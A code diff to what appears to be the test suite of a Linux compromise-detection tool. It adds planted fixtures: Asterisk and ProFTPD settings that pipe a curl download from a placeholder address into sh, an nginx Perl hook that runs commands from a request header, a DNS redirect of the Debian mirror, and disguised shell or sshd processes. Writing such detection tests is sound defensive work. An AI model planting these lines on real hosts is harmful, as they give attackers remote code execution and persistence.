@@ -27,6 +27,10 @@ _SETTINGS = {
     "/etc/tor/torrc": ("HiddenServiceDir /var/lib/tor/x\n", "medium"),
     "/etc/needrestart/conf.d/x.conf": ('system("/opt/x &");\n', "medium"),
     "/etc/profile.d/x.sh": ('export LESSOPEN="| /srv/x %s"\n', "low"),
+    "/etc/asterisk/extensions.conf": (f"exten => 999,1,System(curl -fsS http://{_ADDRESS}/i | sh)\n", "critical"),
+    "/etc/proftpd/conf.d/x.conf": (f"ExecOnConnect /bin/sh -c 'curl http://{_ADDRESS}/i | sh'\n", "critical"),
+    "/etc/nginx/conf.d/perl.conf": ('perl_set $v "sub { system(shift->header_in(q(X-C))); }";\n', "high"),
+    "/etc/dnsmasq.d/names.conf": (f"address=/deb.debian.org/{_ADDRESS}\n", "medium"),
     "/etc/haproxy/conf.d/x.cfg": ("global\n  lua-load /usr/share/misc/nc9\n", "medium"),
     "/etc/docker/daemon.json": ('{"runtimes": {"a": {"path": "/usr/share/misc/nc9"}}}\n', "medium"),
     "/etc/cups/ppd/x.ppd": ('*FoomaticRIPCommandLine: "/usr/share/misc/nc9 &"\n', "medium"),
@@ -113,6 +117,7 @@ def process(pid: int, program: str, arguments: str, folder: str, group: str, env
         "process-links": link.format("exe", program) + link.format("cwd", folder),
         "process-relations": f"/sys/fs/cgroup{group}/cgroup.procs:{pid}\n",
         "process-environments": f"/proc/{pid}/environ:{environment}\n" if environment else "",
+        "process-code": f"/proc/{pid}/maps:55e0-55e1 r-xp 00000000 08:01 7 {program}\n",
     }
 
 
@@ -127,6 +132,9 @@ def process(pid: int, program: str, arguments: str, folder: str, group: str, env
         ("/usr/bin/perl", "spamd child", "/", "/spamd.service", "A=1", ""),
         ("/usr/bin/perl", "perl|-e|sleep 9", "/", "/a.scope", "A=1", ""),
         ("/usr/sbin/sshd", "sshd: ann", "/", "/a.scope", "", ""),
+        ("/usr/bin/sleep", "sh -i|9", "/", "/a.scope", "A=1", "calls itself sh -i"),
+        ("/usr/sbin/sshd", "/usr/sbin/sshd|-f|/var/lib/misc/c", "/", "/a.scope", "A=1", "settings of its own"),
+        ("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "/", "/ssh.service", "A=1", ""),
     ],
 )
 def test_a_process_is_judged_by_how_it_was_started(
@@ -143,6 +151,16 @@ def test_a_process_is_judged_by_how_it_was_started(
     rules = [rule for rule in shipped_rules() if rule.id == "running-foreign"]
     told = [seen.what for finding in judge(collected(tmp_path, planted), rules).findings for seen in finding.seen]
     assert [reason in each for each in told] == ([True] if reason else [])
+
+
+def test_a_process_that_ended_before_environments_were_read_is_not_told_to_have_none(tmp_path: Path) -> None:
+    first = process(1, "/usr/lib/systemd/systemd", "/sbin/init", "/", "/init.scope", "HOME=/")
+    gone = process(7, "/usr/bin/dash", "/bin/sh|-s", "/", "/a.scope", "")
+    planted = {item: first[item] + gone[item] for item in first} | {"process-code": first["process-code"]}
+    planted["bodyfile"] = _BODY.format("/usr/bin/true", "-rwxr-xr-x", 9, 1.0)
+    planted["package-digests"] = f"{_EMPTY}  usr/bin/dash\n{_EMPTY}  usr/lib/systemd/systemd\n"
+    rules = [rule for rule in shipped_rules() if rule.id == "running-foreign"]
+    assert not judge(collected(tmp_path, planted), rules).findings
 
 
 def test_a_package_that_dpkg_did_not_write_is_told_and_explains_no_other_file(tmp_path: Path) -> None:
